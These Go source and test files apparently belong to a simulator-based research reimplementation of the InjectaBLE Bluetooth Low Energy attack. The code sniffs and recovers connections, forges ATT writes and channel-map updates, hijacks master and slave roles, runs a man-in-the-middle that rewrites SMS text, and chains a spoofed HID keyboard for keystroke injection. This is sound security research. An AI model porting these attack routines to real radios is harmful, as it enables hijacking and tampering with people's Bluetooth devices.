	hijack.Client.Write(rig.bulb.ControlHandle(), devices.PowerCommand(true), func(err error) {
		if err != nil {
			t.Fatal(err)
		}
		done = true
	})
	rig.w.RunFor(5 * sim.Second)
	if !done || !rig.bulb.On {
		t.Fatalf("write over hijacked master failed (done=%t on=%t)", done, rig.bulb.On)
	}
}

func TestScenarioDMitMRewritesSMS(t *testing.T) {
	w := host.NewWorld(host.WorldConfig{Seed: 25})
	watch := devices.NewSmartwatch(w.NewDevice(host.DeviceConfig{Name: "watch", Position: phy.Position{X: 0}}))
	phoneDev := w.NewDevice(host.DeviceConfig{Name: "phone", Position: phy.Position{X: 2}})
	phone := devices.NewSmartphone(phoneDev, devices.SmartphoneConfig{ActivityInterval: -1})
	atk := w.NewDevice(host.DeviceConfig{Name: "attacker", Position: phy.Position{X: 1, Y: 1.732},
		ClockPPM: 20, ClockJitter: 500 * sim.Nanosecond})
	a := NewAttacker(atk.Stack, InjectorConfig{})

	a.Sniffer.Start()
	watch.Peripheral.StartAdvertising()
	phone.Connect(watch.Peripheral.Device.Address())
	w.RunFor(3 * sim.Second)
	if !a.Sniffer.Following() {
		t.Fatal("not following")
	}

	mutate := func(p pdu.DataPDU) (pdu.DataPDU, bool) {
		if idx := bytes.Index(p.Payload, []byte("noon")); idx >= 0 {
			p.Payload = bytes.Replace(p.Payload, []byte("noon"), []byte("nine"), 1)
		}
		return p, true
	}
	var session *MITM
	var merr error
	err := a.ManInTheMiddle(UpdateParams{}, MITMConfig{OnMasterToSlave: mutate},
		func(m *MITM, err error) { session, merr = m, err })
	if err != nil {
		t.Fatal(err)
	}
	w.RunFor(60 * sim.Second)
	if merr != nil {
		t.Fatal(merr)
	}
	if session == nil {
		t.Fatal("MITM did not settle")
	}
	if session.Closed() {
		t.Fatal("MITM session died")
	}
	// Both legitimate devices are still connected (through the attacker).
	if !phone.Central.Connected() {
		t.Fatal("master dropped")
	}
	if !watch.Peripheral.Connected() {
		t.Fatal("slave dropped")
	}

	// The phone sends an SMS; the watch displays the rewritten text.
	phone.GATT().WriteCommand(watch.SMSHandle(), []byte("Meet at noon"))
	w.RunFor(10 * sim.Second)
	found := ""
	for _, msg := range watch.Messages {
		if strings.Contains(msg, "Meet at") {
			found = msg
		}
	}
	if found != "Meet at nine" {
		t.Fatalf("watch displayed %q, want rewritten \"Meet at nine\" (all: %v)", found, watch.Messages)
	}
	if session.ForwardedM2S == 0 {
		t.Fatal("no PDUs relayed master→slave")
	}
}

func TestScenarioDMitMRelaysBothDirections(t *testing.T) {
	rig := newAttackRig(t, 26, 36)
	rig.connectAndSync(t)
	a := rig.newAttacker()

	var session *MITM
	err := a.ManInTheMiddle(UpdateParams{}, MITMConfig{}, func(m *MITM, err error) {
		if err != nil {
			t.Error(err)
			return
		}
		session = m
	})
	if err != nil {
		t.Fatal(err)
	}
	rig.w.RunFor(60 * sim.Second)
	if session == nil || session.Closed() {
		t.Fatal("MITM not established")
	}
	// A GATT write request flows through both directions (request + resp).
	done := false
	rig.phone.GATT().Write(rig.bulb.ControlHandle(), devices.PowerCommand(true), func(err error) {
		if err != nil {
			t.Error(err)
		}
		done = true
	})
	rig.w.RunFor(10 * sim.Second)
	if !done {
		t.Fatal("write response never came back through the MITM")
	}
	if !rig.bulb.On {
		t.Fatal("write did not reach the bulb")
	}
	if session.ForwardedM2S == 0 || session.ForwardedS2M == 0 {
		t.Fatalf("relay counts M2S=%d S2M=%d", session.ForwardedM2S, session.ForwardedS2M)
	}
}

func TestEncryptedConnectionInjectionIsDoSOnly(t *testing.T) {
	// Paper §IV: with LL encryption the attacker can still inject, but the
	// frame fails its MIC — the impact degrades to denial of service.
	rig := newAttackRig(t, 27, 36)
	rig.connectAndSync(t)

	// Pair and encrypt the legitimate connection.
	if err := rig.phone.Central.Pair(); err != nil {
		t.Fatal(err)
	}
	rig.w.RunFor(5 * sim.Second)
	if !rig.phone.Central.Conn().Encrypted() {
		t.Fatal("pairing failed")
	}
	bulbConnBefore := rig.bulb.Peripheral.Conn()

	frame := ForgeATTWriteCommand(rig.bulb.ControlHandle(), devices.PowerCommand(true))
	var rep *Report
	if err := rig.injector.Inject(frame, func(r Report) { rep = &r }); err != nil {
		t.Fatal(err)
	}
	rig.w.RunFor(40 * sim.Second)
	if rep == nil {
		t.Fatal("injection never settled")
	}
	// The plaintext write must NOT have been executed.
	if rig.bulb.On {
		t.Fatal("plaintext injection executed on an encrypted connection")
	}
	// The slave detected the MIC failure and dropped the link: DoS.
	if bulbConnBefore != nil && !bulbConnBefore.Closed() && rep.Success {
		t.Fatal("MIC failure did not close the connection")
	}
}

func TestRecoveryOfEstablishedConnection(t *testing.T) {
	// The attacker arrives after the CONNECT_REQ: full parameter recovery,
	// then follows and injects.
	rig := newAttackRig(t, 28, 24)
	// Connect WITHOUT the sniffer watching.
	rig.bulb.Peripheral.StartAdvertising()
	rig.phone.Connect(rig.bulb.Peripheral.Device.Address())
	rig.w.RunFor(2 * sim.Second)
	if !rig.phone.Central.Connected() {
		t.Fatal("no connection")
	}
	truth := rig.phone.Central.Conn().Params()

	rec := NewRecovery(rig.attacker.Stack, RecoveryConfig{AssumeFullMap: true})
	var stages []string
	rec.OnStage = func(s string) { stages = append(stages, s) }
	var st *ConnState
	var rerr error
	rec.Run(func(s *ConnState, err error) { st, rerr = s, err })
	rig.w.RunFor(180 * sim.Second)
	if rerr != nil {
		t.Fatal(rerr)
	}
	if st == nil {
		t.Fatalf("recovery incomplete; stages: %v", stages)
	}
	if st.Params.AccessAddress != truth.AccessAddress {
		t.Fatalf("AA %v != %v", st.Params.AccessAddress, truth.AccessAddress)
	}
	if st.Params.CRCInit != truth.CRCInit {
		t.Fatalf("CRCInit %06X != %06X", st.Params.CRCInit, truth.CRCInit)
	}
	if st.Params.Interval != truth.Interval {
		t.Fatalf("interval %d != %d", st.Params.Interval, truth.Interval)
	}
	if st.Params.Hop != truth.Hop {
		t.Fatalf("hop %d != %d", st.Params.Hop, truth.Hop)
	}

	// Now follow and inject using the recovered parameters.
	rig.sniffer.FollowKnownConnection(st)
	rig.w.RunFor(2 * sim.Second)
	frame := ForgeATTWriteCommand(rig.bulb.ControlHandle(), devices.PowerCommand(true))
	var rep *Report
	if err := rig.injector.Inject(frame, func(r Report) { rep = &r }); err != nil {
		t.Fatal(err)
	}
	rig.w.RunFor(40 * sim.Second)
	if rep == nil || !rep.Success {
		t.Fatal("injection after recovery failed")
	}
	if !rig.bulb.On {
		t.Fatal("bulb not on")
	}
}

func TestAdoptSlaveRequiresValidParams(t *testing.T) {
	w := host.NewWorld(host.WorldConfig{Seed: 30})
	dev := w.NewDevice(host.DeviceConfig{Name: "x"})
	_, err := link.AdoptSlave(dev.Stack, link.ConnParams{Hop: 99, ChannelMap: 3}, [6]byte{}, link.AdoptionState{})
	if err == nil {
		t.Fatal("bad params accepted")
	}
}
