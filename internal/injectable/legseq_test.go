package injectable

import (
	"testing"
	"testing/quick"

	"injectable/internal/ble/pdu"
	"injectable/internal/sim"
)

// TestLegSeqReliableDeliveryProperty drives two legSeq peers over a lossy
// channel with an arbitrary loss pattern: the SN/NESN algorithm must
// deliver every PDU exactly once, in order, in both directions.
func TestLegSeqReliableDeliveryProperty(t *testing.T) {
	f := func(lossBits []byte, nMsgs uint8) bool {
		n := int(nMsgs%16) + 1
		var a, b legSeq
		for i := 0; i < n; i++ {
			a.enqueue(pdu.DataPDU{Header: pdu.DataHeader{LLID: pdu.LLIDStart}, Payload: []byte{0xA0, byte(i)}})
			b.enqueue(pdu.DataPDU{Header: pdu.DataHeader{LLID: pdu.LLIDStart}, Payload: []byte{0xB0, byte(i)}})
		}
		lost := func(event int) bool {
			if len(lossBits) == 0 {
				return false
			}
			byteIdx := (event / 8) % len(lossBits)
			return lossBits[byteIdx]&(1<<(event%8)) != 0
		}

		var atB, atA [][]byte
		// Simulate connection events: a transmits, b receives (maybe) and
		// responds, a receives the response (maybe). A lost frame means
		// the receiver acts as if the event were empty.
		for ev := 0; ev < 40*n; ev++ {
			ap := a.next()
			if !lost(2 * ev) {
				if b.onRx(ap.Header) && len(ap.Payload) > 0 {
					atB = append(atB, ap.Payload)
				}
				bp := b.next()
				if !lost(2*ev + 1) {
					if a.onRx(bp.Header) && len(bp.Payload) > 0 {
						atA = append(atA, bp.Payload)
					}
				}
			}
			if len(atA) == n && len(atB) == n {
				break
			}
		}
		// With a periodic loss pattern the stream can stall only if the
		// pattern is all-ones; tolerate incomplete delivery there but
		// never duplication or reordering.
		check := func(got [][]byte, tag byte) bool {
			for i, p := range got {
				if len(p) != 2 || p[0] != tag || p[1] != byte(i) {
					return false
				}
			}
			return true
		}
		return check(atB, 0xA0) && check(atA, 0xB0)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Fatal(err)
	}
}

// TestLegSeqDeliversEverythingWithoutLoss: completeness on a clean channel.
func TestLegSeqDeliversEverythingWithoutLoss(t *testing.T) {
	var a, b legSeq
	const n = 50
	for i := 0; i < n; i++ {
		a.enqueue(pdu.DataPDU{Header: pdu.DataHeader{LLID: pdu.LLIDStart}, Payload: []byte{byte(i)}})
	}
	var got []byte
	for ev := 0; ev < n+5; ev++ {
		ap := a.next()
		if b.onRx(ap.Header) && len(ap.Payload) > 0 {
			got = append(got, ap.Payload[0])
		}
		bp := b.next()
		a.onRx(bp.Header)
	}
	if len(got) != n {
		t.Fatalf("delivered %d/%d", len(got), n)
	}
	for i, v := range got {
		if v != byte(i) {
			t.Fatalf("order broken at %d", i)
		}
	}
}

// TestLegSeqRetransmitKeepsSameSN: an unacknowledged PDU must be repeated
// with the same sequence number.
func TestLegSeqRetransmitKeepsSameSN(t *testing.T) {
	var a legSeq
	a.enqueue(pdu.DataPDU{Header: pdu.DataHeader{LLID: pdu.LLIDStart}, Payload: []byte{7}})
	p1 := a.next()
	p2 := a.next() // not acked: must be the same PDU with the same SN
	if p1.Header.SN != p2.Header.SN || len(p2.Payload) == 0 || p2.Payload[0] != 7 {
		t.Fatalf("retransmission changed: %+v vs %+v", p1, p2)
	}
	// Ack it: the next PDU is empty with flipped SN.
	a.onRx(pdu.DataHeader{NESN: !p1.Header.SN, SN: false})
	p3 := a.next()
	if !p3.IsEmpty() || p3.Header.SN == p1.Header.SN {
		t.Fatalf("post-ack PDU wrong: %+v", p3)
	}
}

// TestInjectionSNAgainstLiveCounters cross-checks eq. 6 against the real
// Link Layer state machine: a frame forged from the sniffed slave state is
// accepted as new data by the slave.
func TestInjectionSNAgainstLiveCounters(t *testing.T) {
	rig := newAttackRig(t, 73, 24)
	rig.connectAndSync(t)
	rig.w.RunFor(500 * sim.Millisecond)
	st := rig.sniffer.State()
	slaveSN, slaveNESN := rig.bulb.Peripheral.Conn().SequenceState()
	// The sniffed view must match the live slave counters.
	if st.SlaveSN != slaveSN || st.SlaveNESN != slaveNESN {
		t.Fatalf("sniffed (%t,%t) vs live (%t,%t)", st.SlaveSN, st.SlaveNESN, slaveSN, slaveNESN)
	}
	// Eq. 6: the forged SN equals the slave's NESN — "considered as new
	// data by the Slave".
	sn, _ := st.InjectionSN()
	if sn != slaveNESN {
		t.Fatal("forged SN would be treated as a retransmission")
	}
}
