package injectable

import (
	"strings"
	"testing"

	"injectable/internal/ble"
	"injectable/internal/sim"
)

// TestRecoveryWithChannelMapProbing exercises the slow path: the attacker
// does not assume all 37 channels and probes each one.
func TestRecoveryWithChannelMapProbing(t *testing.T) {
	rig := newAttackRig(t, 31, 12) // short interval: probing converges faster
	rig.bulb.Peripheral.StartAdvertising()
	rig.phone.Connect(rig.bulb.Peripheral.Device.Address())
	rig.w.RunFor(2 * sim.Second)
	if !rig.phone.Central.Connected() {
		t.Fatal("no connection")
	}

	rec := NewRecovery(rig.attacker.Stack, RecoveryConfig{
		AssumeFullMap: false,
		ChannelDwell:  700 * sim.Millisecond, // > 37 × 15 ms revisit period
	})
	var stages []string
	rec.OnStage = func(s string) { stages = append(stages, s) }
	var st *ConnState
	var rerr error
	synced := false
	rec.Run(func(s *ConnState, err error) {
		st, rerr = s, err
		if err == nil {
			rig.sniffer.FollowKnownConnection(s)
			synced = true
		}
	})
	rig.w.RunFor(120 * sim.Second)
	if rerr != nil {
		t.Fatalf("recovery failed after stages %v: %v", stages, rerr)
	}
	if st == nil || !synced {
		t.Fatalf("recovery incomplete; stages: %v", stages)
	}
	if st.Params.ChannelMap != ble.AllChannels {
		t.Fatalf("probed map has %d channels, want 37", st.Params.ChannelMap.CountUsed())
	}
	if !strings.Contains(strings.Join(stages, ","), "channel-map") {
		t.Fatalf("channel-map stage skipped: %v", stages)
	}
	truth := rig.phone.Central.Conn().Params()
	if st.Params.Interval != truth.Interval || st.Params.Hop != truth.Hop {
		t.Fatalf("recovered interval/hop %d/%d vs truth %d/%d",
			st.Params.Interval, st.Params.Hop, truth.Interval, truth.Hop)
	}
	// And the follower must actually be on the connection.
	packets := 0
	rig.sniffer.OnPacket = func(SniffedPacket) { packets++ }
	rig.w.RunFor(2 * sim.Second)
	if packets < 50 {
		t.Fatalf("sniffer only saw %d packets after probed-map recovery", packets)
	}
}

// TestRecoveryFailsWithoutConnection: the AA scan must give up with a
// clear error when the band is silent.
func TestRecoveryFailsWithoutConnection(t *testing.T) {
	rig := newAttackRig(t, 32, 12)
	// No connection established at all.
	rec := NewRecovery(rig.attacker.Stack, RecoveryConfig{
		ChannelDwell: 10 * sim.Millisecond,
	})
	var rerr error
	done := false
	rec.Run(func(s *ConnState, err error) { rerr, done = err, true })
	rig.w.RunFor(60 * sim.Second)
	if !done {
		t.Fatal("recovery never gave up")
	}
	if rerr == nil {
		t.Fatal("recovery claimed success on a silent band")
	}
}

// TestRecoveryAllHopIncrements verifies the increment-inference table on
// every legal hop value.
func TestRecoveryAllHopIncrements(t *testing.T) {
	for hop := 5; hop <= 16; hop++ {
		// hopInverse must invert each increment uniquely.
		found := 0
		for k, inc := range hopInverse {
			if inc == uint8(hop) {
				found++
				if k*hop%37 != 1 {
					t.Errorf("inverse table wrong for hop %d: k=%d", hop, k)
				}
			}
		}
		if found != 1 {
			t.Errorf("hop %d has %d inverse entries", hop, found)
		}
	}
}
