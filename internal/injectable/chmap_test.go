package injectable

import (
	"testing"

	"injectable/internal/ble"
	"injectable/internal/ble/pdu"
	"injectable/internal/link"
	"injectable/internal/sim"
)

// TestForgedChannelMapStarvation injects an LL_CHANNEL_MAP_IND (the other
// instant-based update PDU of paper §III-B.7): the slave applies the
// forged two-channel map at the instant while the master keeps hopping the
// full map, so the two sides only meet when the master lands on one of the
// two remaining channels (~2/37 of events) — starving the connection to a
// trickle without transmitting another frame.
func TestForgedChannelMapStarvation(t *testing.T) {
	rig := newAttackRig(t, 81, 36)
	rig.connectAndSync(t)

	forgedMap := ble.ChannelMap(0b11) // slave will sit on channels 0 and 1
	var rep *Report
	err := rig.injector.InjectDynamic(func(st *ConnState) pdu.DataPDU {
		return ForgeChannelMapUpdate(forgedMap, st.EventCount+10)
	}, func(r Report) { rep = &r })
	if err != nil {
		t.Fatal(err)
	}
	rig.w.RunFor(20 * sim.Second)
	if rep == nil || !rep.Success {
		t.Fatalf("channel map injection failed: %+v", rep)
	}

	// Measure the slave's hit rate after the instant has long passed.
	slaveConn := rig.bulb.Peripheral.Conn()
	if slaveConn == nil {
		return // the starvation already killed it — also a valid outcome
	}
	hits, misses := 0, 0
	slaveConn.OnEvent = func(e link.EventInfo) {
		if e.Missed {
			misses++
		} else {
			hits++
		}
	}
	rig.w.RunFor(20 * sim.Second)
	total := hits + misses
	if total < 50 {
		return // connection died mid-measurement: starvation confirmed
	}
	rate := float64(hits) / float64(total)
	if rate > 0.25 {
		t.Fatalf("slave still hits %.0f%% of events — no starvation", rate*100)
	}
	t.Logf("post-attack slave hit rate: %.1f%% (%d/%d)", rate*100, hits, total)
}

// TestForgedChannelMapFollowedByAttacker shows the hijack variant: the
// attacker knows the forged map and keeps following the slave after the
// split (it becomes the only device on the slave's schedule).
func TestForgedChannelMapFollowedByAttacker(t *testing.T) {
	rig := newAttackRig(t, 82, 36)
	rig.connectAndSync(t)

	forgedMap := ble.AllChannels.Without(2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, 17, 18)
	var rep *Report
	var forged pdu.ChannelMapInd
	st := rig.sniffer.State()
	err := rig.injector.InjectDynamic(func(s *ConnState) pdu.DataPDU {
		forged = pdu.ChannelMapInd{ChannelMap: forgedMap, Instant: s.EventCount + 10}
		return pdu.DataPDU{
			Header:  pdu.DataHeader{LLID: pdu.LLIDControl},
			Payload: pdu.MarshalControl(forged),
		}
	}, func(r Report) {
		rep = &r
		if r.Success {
			// Mirror the forged update into the attacker's own state so
			// the sniffer hops with the slave after the instant.
			upd := forged
			st.PendingChMap = &upd
		}
	})
	if err != nil {
		t.Fatal(err)
	}
	rig.w.RunFor(30 * sim.Second)
	if rep == nil || !rep.Success {
		t.Fatalf("injection failed: %+v", rep)
	}
	if st.Params.ChannelMap != forgedMap {
		t.Fatal("attacker state did not apply the forged map")
	}
}
