package injectable

import (
	"fmt"

	"injectable/internal/devices"
	"injectable/internal/sim"
)

// KeystrokeInjection is the paper's §IX future-work attack, realised:
// after hijacking the slave role (scenario B), the attacker indicates
// Service Changed, exposes a HID-over-GATT keyboard profile in place of
// the original device, waits for the host to attach to it — as every HID
// host automatically does — and types.
type KeystrokeInjection struct {
	Hijack   *SlaveHijack
	Keyboard *devices.Keyboard

	sched *sim.Scheduler
}

// InjectKeyboard performs the full chain: slave hijack with a forged
// keyboard profile, Service Changed indication, then availability to Type.
func (a *Attacker) InjectKeyboard(deviceName string, done func(*KeystrokeInjection, error)) error {
	kbd := devices.NewKeyboardProfile(deviceName)
	return a.HijackSlave(kbd.GATT, func(h *SlaveHijack, err error) {
		if err != nil {
			done(nil, err)
			return
		}
		ki := &KeystrokeInjection{Hijack: h, Keyboard: kbd, sched: a.Stack.Sched}
		// Invalidate the host's GATT cache: it will rediscover, find the
		// keyboard, and (being a HID host) subscribe to its reports.
		kbd.IndicateServiceChanged()
		done(ki, nil)
	})
}

// Attached reports whether the host has subscribed to keystroke reports.
func (ki *KeystrokeInjection) Attached() bool { return ki.Keyboard.Subscribed() }

// Type injects keystrokes, pacing the key-down/key-up reports so each
// rides its own connection event.
func (ki *KeystrokeInjection) Type(text string) error {
	if !ki.Attached() {
		return fmt.Errorf("injectable: host has not subscribed to the keyboard yet")
	}
	ki.Keyboard.Type(text)
	return nil
}
