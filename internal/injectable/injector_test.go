package injectable

import (
	"testing"

	"injectable/internal/ble"
	"injectable/internal/ble/pdu"
	"injectable/internal/devices"
	"injectable/internal/host"
	"injectable/internal/link"
	"injectable/internal/phy"
	"injectable/internal/sim"
)

// attackRig is the paper's triangle setup: bulb at origin, phone 2 m away,
// attacker 2 m from both (equilateral, §VII Fig. 8).
type attackRig struct {
	w        *host.World
	bulb     *devices.Lightbulb
	phone    *devices.Smartphone
	attacker *host.Device
	sniffer  *Sniffer
	injector *Injector
}

func newAttackRig(t *testing.T, seed uint64, interval uint16) *attackRig {
	t.Helper()
	w := host.NewWorld(host.WorldConfig{Seed: seed})
	rig := &attackRig{w: w}
	rig.bulb = devices.NewLightbulb(w.NewDevice(host.DeviceConfig{
		Name: "bulb", Position: phy.Position{X: 0, Y: 0},
	}))
	rig.phone = devices.NewSmartphone(w.NewDevice(host.DeviceConfig{
		Name: "phone", Position: phy.Position{X: 2, Y: 0},
	}), devices.SmartphoneConfig{
		ConnParams: link.ConnParams{Interval: interval},
	})
	// Attacker: nRF52840-grade clock (rated 20 ppm, sharp wakeups).
	rig.attacker = w.NewDevice(host.DeviceConfig{
		Name: "attacker", Position: phy.Position{X: 1, Y: 1.732},
		ClockPPM: 20, ClockJitter: 500 * sim.Nanosecond,
	})
	rig.sniffer = NewSniffer(rig.attacker.Stack)
	rig.injector = NewInjector(rig.attacker.Stack, rig.sniffer, InjectorConfig{})
	return rig
}

// connectAndSync brings the connection up with the sniffer following it.
func (rig *attackRig) connectAndSync(t *testing.T) {
	t.Helper()
	rig.sniffer.Start()
	rig.bulb.Peripheral.StartAdvertising()
	rig.phone.Connect(rig.bulb.Peripheral.Device.Address())
	rig.w.RunFor(3 * sim.Second)
	if !rig.phone.Central.Connected() {
		t.Fatal("phone did not connect")
	}
	if !rig.sniffer.Following() {
		t.Fatal("sniffer did not capture the CONNECT_REQ")
	}
}

func TestSnifferCapturesConnectReq(t *testing.T) {
	rig := newAttackRig(t, 1, 36)
	captured := false
	rig.sniffer.OnConnectReq = func(req pdu.ConnectReq) { captured = true }
	rig.connectAndSync(t)
	if !captured {
		t.Fatal("OnConnectReq not fired")
	}
	st := rig.sniffer.State()
	if st == nil {
		t.Fatal("no state")
	}
	if st.Params.Interval != 36 {
		t.Fatalf("sniffed interval = %d", st.Params.Interval)
	}
	if st.Params.AccessAddress == 0 {
		t.Fatal("no access address sniffed")
	}
}

func TestSnifferTracksPacketsAndSequence(t *testing.T) {
	rig := newAttackRig(t, 2, 24)
	var masters, slaves int
	rig.sniffer.OnPacket = func(p SniffedPacket) {
		switch p.Role {
		case link.RoleMaster:
			masters++
		case link.RoleSlave:
			slaves++
		}
	}
	rig.connectAndSync(t)
	rig.w.RunFor(2 * sim.Second)
	if masters < 20 || slaves < 20 {
		t.Fatalf("sniffed %d master / %d slave packets", masters, slaves)
	}
	st := rig.sniffer.State()
	if !st.HaveSlaveSeq || !st.AnchorKnown {
		t.Fatal("sequence state not tracked")
	}
	// The sniffer's view of the slave SN/NESN must match the ground truth.
	sn, nesn := rig.bulb.Peripheral.Conn().SequenceState()
	if st.SlaveNESN != nesn && st.SlaveSN != sn {
		t.Fatalf("sniffed seq (%t,%t) vs truth (%t,%t)", st.SlaveSN, st.SlaveNESN, sn, nesn)
	}
}

func TestSnifferFollowsAcrossChannelMapUpdate(t *testing.T) {
	rig := newAttackRig(t, 3, 24)
	rig.connectAndSync(t)
	newMap := rig.sniffer.State().Params.ChannelMap.Without(1, 2, 3, 4, 5, 6, 7, 8)
	if err := rig.phone.Central.Conn().RequestChannelMapUpdate(newMap); err != nil {
		t.Fatal(err)
	}
	seen := 0
	rig.sniffer.OnPacket = func(p SniffedPacket) { seen++ }
	rig.w.RunFor(3 * sim.Second)
	if rig.sniffer.State().Params.ChannelMap != newMap {
		t.Fatal("sniffer did not apply the channel map update")
	}
	if seen < 20 {
		t.Fatalf("sniffer lost the connection after the update (saw %d packets)", seen)
	}
}

func TestSnifferFollowsAcrossConnectionUpdate(t *testing.T) {
	rig := newAttackRig(t, 4, 24)
	rig.connectAndSync(t)
	if err := rig.phone.Central.Conn().RequestConnectionUpdate(2, 2, 48, 0, 200); err != nil {
		t.Fatal(err)
	}
	rig.w.RunFor(2 * sim.Second)
	seen := 0
	rig.sniffer.OnPacket = func(p SniffedPacket) { seen++ }
	rig.w.RunFor(2 * sim.Second)
	if got := rig.sniffer.State().Params.Interval; got != 48 {
		t.Fatalf("sniffer interval = %d after update", got)
	}
	if seen < 10 {
		t.Fatalf("sniffer lost the connection after the update (saw %d packets)", seen)
	}
}

func TestInjectWriteCommandTurnsBulbOn(t *testing.T) {
	rig := newAttackRig(t, 5, 36)
	rig.connectAndSync(t)
	rig.w.RunFor(200 * sim.Millisecond)

	frame := ForgeATTWriteCommand(rig.bulb.ControlHandle(), devices.PowerCommand(true))
	var report *Report
	err := rig.injector.Inject(frame, func(r Report) { report = &r })
	if err != nil {
		t.Fatal(err)
	}
	rig.w.RunFor(20 * sim.Second)
	if report == nil {
		t.Fatal("injection never settled")
	}
	if !report.Success {
		t.Fatalf("injection failed after %d attempts", report.AttemptCount())
	}
	if !rig.bulb.On {
		t.Fatal("heuristic claimed success but the bulb is off")
	}
	// The connection must survive the injection (stealth property).
	if !rig.phone.Central.Connected() || !rig.bulb.Peripheral.Connected() {
		t.Fatal("injection broke the connection")
	}
	t.Logf("success after %d attempts", report.AttemptCount())
}

func TestInjectionHeuristicMatchesGroundTruth(t *testing.T) {
	// Run several injections; whenever the heuristic reports success the
	// device state must reflect the command, validating eq. 7 against the
	// simulator's ground truth.
	rig := newAttackRig(t, 6, 36)
	rig.connectAndSync(t)
	for i := 0; i < 5; i++ {
		want := i%2 == 0
		frame := ForgeATTWriteCommand(rig.bulb.ControlHandle(), devices.PowerCommand(want))
		var report *Report
		if err := rig.injector.Inject(frame, func(r Report) { report = &r }); err != nil {
			t.Fatal(err)
		}
		rig.w.RunFor(20 * sim.Second)
		if report == nil || !report.Success {
			t.Fatalf("round %d: injection failed", i)
		}
		if rig.bulb.On != want {
			t.Fatalf("round %d: heuristic success but bulb=%t want %t", i, rig.bulb.On, want)
		}
	}
}

func TestInjectionAttemptsReasonable(t *testing.T) {
	// In the triangle setup at interval 36 the paper reports low medians
	// (< 4 attempts); allow generous slack but catch regressions.
	attempts := make([]int, 0, 10)
	for seed := uint64(0); seed < 10; seed++ {
		rig := newAttackRig(t, 100+seed, 36)
		rig.connectAndSync(t)
		frame := ForgeATTWriteCommand(rig.bulb.ControlHandle(), devices.PowerCommand(true))
		var report *Report
		if err := rig.injector.Inject(frame, func(r Report) { report = &r }); err != nil {
			t.Fatal(err)
		}
		rig.w.RunFor(40 * sim.Second)
		if report == nil || !report.Success {
			t.Fatalf("seed %d: injection failed", seed)
		}
		attempts = append(attempts, report.AttemptCount())
	}
	sum := 0
	for _, a := range attempts {
		sum += a
	}
	mean := float64(sum) / float64(len(attempts))
	t.Logf("attempts per success: %v (mean %.1f)", attempts, mean)
	if mean > 12 {
		t.Fatalf("mean attempts %.1f — far above the paper's reported behaviour", mean)
	}
}

func TestInjectRequiresFollowedConnection(t *testing.T) {
	w := host.NewWorld(host.WorldConfig{Seed: 9})
	dev := w.NewDevice(host.DeviceConfig{Name: "attacker"})
	sniffer := NewSniffer(dev.Stack)
	injector := NewInjector(dev.Stack, sniffer, InjectorConfig{})
	if err := injector.Inject(ForgeTerminateInd(), nil); err == nil {
		t.Fatal("injection without sync accepted")
	}
}

func TestDoubleInjectRejected(t *testing.T) {
	rig := newAttackRig(t, 10, 36)
	rig.connectAndSync(t)
	frame := ForgeATTWriteCommand(rig.bulb.ControlHandle(), devices.PowerCommand(true))
	if err := rig.injector.Inject(frame, nil); err != nil {
		t.Fatal(err)
	}
	if err := rig.injector.Inject(frame, nil); err == nil {
		t.Fatal("concurrent injection accepted")
	}
}

func TestInjectionSNFormula(t *testing.T) {
	// Eq. 6: SN_a = NESN_s, NESN_a = (SN_s + 1) mod 2.
	st := &ConnState{SlaveSN: true, SlaveNESN: false}
	sn, nesn := st.InjectionSN()
	if sn != false || nesn != false {
		t.Fatalf("eq6(%t,%t) = (%t,%t)", st.SlaveSN, st.SlaveNESN, sn, nesn)
	}
	st = &ConnState{SlaveSN: false, SlaveNESN: true}
	sn, nesn = st.InjectionSN()
	if sn != true || nesn != true {
		t.Fatalf("eq6 wrong")
	}
}

func TestWindowWideningEstimate(t *testing.T) {
	// Eq. 5 with master SCA ≤50 ppm, assumed slave 20 ppm, interval
	// 36 × 1.25 ms: (70/1e6) × 45 ms + 32 µs = 35.15 µs.
	got := WindowWideningEstimate(ble.SCA31to50ppm, 20, 45*sim.Millisecond)
	if got != 35150*sim.Nanosecond {
		t.Fatalf("widening = %v", got)
	}
}

// TestInjectionDeterministicPerSeed: identical seeds must reproduce the
// attack byte-for-byte (the "every bug report is a seed" property).
func TestInjectionDeterministicPerSeed(t *testing.T) {
	run := func() (int, sim.Time) {
		rig := newAttackRig(t, 4242, 36)
		rig.connectAndSync(t)
		var rep *Report
		frame := ForgeATTWriteCommand(rig.bulb.ControlHandle(), devices.PowerCommand(true))
		if err := rig.injector.Inject(frame, func(r Report) { rep = &r }); err != nil {
			t.Fatal(err)
		}
		rig.w.RunFor(30 * sim.Second)
		if rep == nil || !rep.Success {
			t.Fatal("injection failed")
		}
		return rep.AttemptCount(), rep.Attempts[len(rep.Attempts)-1].TxStart
	}
	n1, t1 := run()
	n2, t2 := run()
	if n1 != n2 || t1 != t2 {
		t.Fatalf("non-deterministic: (%d,%v) vs (%d,%v)", n1, t1, n2, t2)
	}
}

// TestEncryptedSlaveHijackFails: scenario B needs a CRC-valid LL control
// frame; on an encrypted link the injected plaintext TERMINATE_IND fails
// its MIC and only tears the link down (DoS), never yielding a hijack.
func TestEncryptedSlaveHijackFails(t *testing.T) {
	rig := newAttackRig(t, 4243, 36)
	rig.connectAndSync(t)
	if err := rig.phone.Central.Pair(); err != nil {
		t.Fatal(err)
	}
	rig.w.RunFor(5 * sim.Second)
	if !rig.phone.Central.Conn().Encrypted() {
		t.Fatal("pairing failed")
	}
	a := rig.newAttacker()
	var hijack *SlaveHijack
	var herr error
	err := a.HijackSlave(hackedServer(), func(h *SlaveHijack, e error) { hijack, herr = h, e })
	if err != nil {
		t.Fatal(err)
	}
	rig.w.RunFor(60 * sim.Second)
	if hijack != nil && herr == nil {
		// If the callback claims success, the "hijacked" conn must fail to
		// serve anything (no valid session) — but in practice the MIC DoS
		// kills the link before any confirmed injection.
		t.Fatal("slave hijack claimed success on an encrypted connection")
	}
}
