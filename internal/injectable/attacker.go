package injectable

import (
	"fmt"

	"injectable/internal/att"
	"injectable/internal/ble"
	"injectable/internal/ble/pdu"
	"injectable/internal/gatt"
	"injectable/internal/l2cap"
	"injectable/internal/link"
	"injectable/internal/sim"
)

// Attacker bundles the InjectaBLE tooling on one radio device, mirroring
// the paper's dongle: sniffer + injector + the attack scenarios A–D.
type Attacker struct {
	Stack    *link.Stack
	Sniffer  *Sniffer
	Injector *Injector

	// SlaveHijack / MasterHijack retain the most recent successful role
	// adoption. The completion callback alone is not enough: an adopted
	// connection referenced only by scheduler closures is invisible to
	// world snapshots, and a forked world would replay it with stale
